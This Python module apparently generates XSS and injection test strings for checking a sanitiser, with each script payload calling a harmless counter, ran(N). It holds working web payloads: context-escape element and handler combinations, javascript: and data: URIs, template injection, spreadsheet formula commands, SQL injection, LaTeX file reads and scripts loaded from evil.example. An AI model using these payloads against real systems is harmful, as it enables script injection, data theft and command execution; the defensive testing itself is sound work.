"""Strings that would run a script if anything took them for markup: our own, and those of public collections.

Each of our own calls `ran(N)`, which the browser's page counts. They are put together from ways out of a context,
elements and handlers that run without a click, and addresses; then come those that are told apart by hand.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from itertools import product
from pathlib import Path

#: Ways out of where a string may stand: text, an attribute, a comment, a script, a sheet, CDATA, a title, JSON.
_WAYS_OUT = (
    "", '">', "'>", "-->", "]]>", "</script>", "</title>", "</style>", "</textarea>", "</svg>",
    '"/></text></svg>', "\\\">", "&quot;>", "*/</style>",
)  # fmt: skip
_ELEMENTS = (
    "<script>ran(1)</script>",
    "<img src=x onerror=ran(1)>",
    "<svg onload=ran(1)>",
    "<body onload=ran(1)>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'>",
    "<input autofocus onfocus=ran(1)>",
    "<details open ontoggle=ran(1)>",
    "<video><source onerror=ran(1)></video>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=ran(1)>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=ran(1)></style></svg>",
    "<object data=javascript:ran(1)>",
    "<embed src=javascript:ran(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=javascript:ran(1)><button autofocus>x</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<xss onpointerover=ran(1) style=animation-name:x onanimationstart=ran(1)>",
)
_ADDRESSES = (
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    "java\tscript:ran(1)",
    "java\nscript:ran(1)",
    "\x01javascript:ran(1)",
    "&#106;avascript:ran(1)",
    "&#x6A&#x61vascript:ran(1)",
    "javascript&colon;ran(1)",
    "javascript\u003aran(1)",
    "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=ran(1)>",
    "vbscript:ran(1)",
    "//evil.example/x.js",
    "https:evil.example",
    "\\\\evil.example\\x",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "view-source:javascript:ran(1)",
    'https://example.org/" onmouseover=ran(1) x="',
    "https://example.org/' autofocus onfocus=ran(1) '",
    "https://example.org/><script>ran(1)</script>",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "[[halcyon|{}]]",
    "[[halcyon#{}]]",
    '[@harbour, ¶1 "{}"]',
)
_BY_HAND = (
    '" onfocus=ran(1) autofocus x="',
    "' onmouseover='ran(1)",
    "` onerror=ran(1) `",
    '{"@context":"x","a":"</script><script>ran(1)</script>"}',
    "<!--<script>ran(1)//-->",
    "<![CDATA[<script>ran(1)</script>]]>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>ran(1)</script>",
    "<?xml-stylesheet href='javascript:ran(1)'?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran(1)</x:script>",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${ran(1)}",
    "#{ran(1)}",
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "\u2028ran(1)//",
    "\u2029</script><script>ran(1)//",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#60;script&#62;ran(1)&#60;/script&#62;",
    "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "\ufeff<script>ran(1)</script>",
    "<scr\0ipt>ran(1)</scr\0ipt>",
    "\u202e<script>ran(1)</script>",
    "<script\x0csrc=https://evil.example/x.js>",
    "＜script＞ran(1)＜/script＞",
    "<a href=javascript:ran(1) autofocus onfocus=ran(1)>x</a>",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "\t=1+1",
    "}\n@article{x, title={ran(1)}",
    "\\write18{ran}\\input{/etc/passwd}",
    "TY  - JOUR\r\nER  - \r\n",
    "x\nER  - \nTY  - JOUR",
    "::set-output name=x::y",
    "::error file=x::ran(1)",
    "%0A::error::ran(1)",
    "\x1b]0;ran\x07\x1b[2J\x1b[31m",
    "@everyone #1 https://evil.example ![x](https://evil.example/x.png)",
    "```\n</code></pre><script>ran(1)</script>\n```",
    "'; DROP TABLE records; --",
    "\" OR 1=1 --",
    "</bdi></a></p><script>ran(1)</script>",
    "</dd></dl></section></main><script src=//evil.example/x.js></script>",
    "</noscript><script>ran(1)</script>",
    "</template><img src=x onerror=ran(1)>",
    "<plaintext>",
    "<xmp><script>ran(1)</script>",
    "<noembed></noembed><script>ran(1)</script>",
    "<select><template><img src=x onerror=ran(1)></template></select>",
    "<a id=ran><a id=ran name=x href=javascript:ran(1)>",
    "<img name=currentScript><img id=location>",
    "__proto__",
    "constructor.prototype",
)  # fmt: skip


def own_strings() -> list[str]:
    """Ours, each once; the number that they call `ran` with is their place."""
    made = [out + element for element, out in product(_ELEMENTS, _WAYS_OUT)]
    made += [*_ADDRESSES, *_BY_HAND]
    made += [form.format(address) for form, address in product(_LINKS, _ADDRESSES)]
    return [text.replace("ran(1)", f"ran({number})") for number, text in enumerate(dict.fromkeys(made), 1)]


def collected_strings(files: Sequence[Path]) -> Iterator[str]:
    """Those of public collections: a JSON list of strings, or a text with one a line, # before remarks."""
    for file in files:
        text = file.read_text(encoding="utf-8", errors="replace")
        lines = json.loads(text) if file.suffix == ".json" else text.splitlines()
        for line in lines:
            if (
                isinstance(line, str)
                and line.strip()
                and (file.suffix == ".json" or not line.startswith("#"))
            ):
                yield line


def drawn(count: int, seed: int) -> list[str]:
    """Some of our own, by chance."""
    strings = own_strings()
    return random.Random(seed).sample(strings, min(count, len(strings)))
